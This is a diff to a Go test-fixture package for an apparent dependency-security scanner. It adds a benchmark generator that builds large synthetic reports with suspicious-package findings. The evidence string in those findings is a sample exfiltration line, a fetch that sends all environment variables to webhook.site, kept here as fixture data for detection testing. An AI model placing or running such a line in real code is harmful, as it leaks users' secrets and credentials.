@@ -4,6 +4,7 @@
 package reporttest
 
 import (
+	"fmt"
 	"time"
 
 	"github.com/depfence/depfence/internal/finding"
@@ -92,5 +93,36 @@ func Sample() *report.Result {
 		Findings: map[string]int{"critical": 1, "high": 1, "medium": 1, "low": 1}, Accepted: 1,
 		Verdicts: map[string]int{"malicious": 1, "ok": 4}, Failed: true,
 		FailReasons: []string{"2 findings at or above high", "1 acceptance expired"}}
+	return r
+}
+
+// Large returns a result with n packages (a chain of dependencies, each
+// with an integrity and a lockfile line) and, for every tenth package, two
+// findings with evidence: an input for benchmarks.
+func Large(n int) *report.Result {
+	r := Sample()
+	r.Packages, r.Findings = nil, nil
+	const integrity = "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQEFhw9eHsuHb7fheTkMF5Y/LS9SI1xfYY9I0Ii6HM8Gkq6A=="
+	for k := 0; k < n; k++ {
+		name := fmt.Sprintf("pkg-%05d", k)
+		p := report.Package{Name: name, Version: "1.0.0", Source: "registry", Integrity: integrity,
+			URL:  "https://registry.npmjs.org/" + name + "/-/" + name + "-1.0.0.tgz",
+			Path: []string{".", name + "@1.0.0"}, LockfileLine: 10 + 12*k, Status: report.StatusAnalysed, Verdict: "ok"}
+		if k+1 < n {
+			p.DependsOn = []string{fmt.Sprintf("pkg-%05d@1.0.0", k+1)}
+		}
+		if k%10 == 0 {
+			p.Verdict = "suspicious"
+			pkg := finding.Package{Name: name, Version: "1.0.0"}
+			for _, rule := range []string{"net/exfil-service", "install/lifecycle-script"} {
+				r.Findings = append(r.Findings, report.Finding{
+					Finding: mk(rule, finding.SeverityHigh, pkg, "Sends data to a known exfiltration service (webhook.site)", "lib/index.js", k+1,
+						finding.Evidence{Snippet: `fetch("https://webhook.site/" + JSON.stringify(process.env))`, Decoded: "https://webhook.site/…"}),
+					Decision: report.DecisionFail, Path: p.Path, LockfileLine: p.LockfileLine})
+			}
+		}
+		r.Packages = append(r.Packages, p)
+	}
+	r.Summary.Packages, r.Summary.Analysed = n, n
 	return r
 }
